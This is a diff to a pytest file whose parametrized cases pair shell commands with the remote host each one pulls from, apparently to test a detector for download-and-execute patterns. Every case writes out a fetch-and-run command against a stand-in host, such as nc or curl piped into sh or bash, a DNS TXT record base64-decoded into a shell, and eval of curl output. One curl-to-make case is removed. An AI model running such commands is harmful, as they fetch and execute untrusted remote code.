@@ -22,7 +22,7 @@ def test_what_is_fetched_and_read(command: str) -> None:
 @pytest.mark.parametrize(("command", "place"), [
     ("nc a.example 99 | sh", "a.example:99"), ("ssh u@a.example cat i.sh | bash", "u@a.example"),
     ("dig +short txt i.a.example | tr -d x | base64 -d | sh", "i.a.example"), ("aws s3 cp s3://drop/i.sh - | bash", "s3://drop/i.sh"),
-    ("curl -s https://a.example/i.xsh | xonsh", "https://a.example/i.xsh"), ("curl -s https://a.example/M | make -f -", "https://a.example/M"),
+    ("curl -s https://a.example/i.xsh | xonsh", "https://a.example/i.xsh"),
     ("curl -s https://a.example/x > a && cat a | sh", "https://a.example/x"), ("curl -s https://a.example/x -o a; cp a b; sh b", "https://a.example/x"),
     ("rsync u@a.example:/i.sh . && sh i.sh", "u@a.example:/i.sh"), ("nobodyknows -o i.sh https://a.example/i.sh; sh i.sh", "https://a.example/i.sh"),
     ("nobodyknows get https://a.example/i | sh", "https://a.example/i"), ("x=$(curl -s https://a.example/x); eval \"$x\"", "https://a.example/x")])
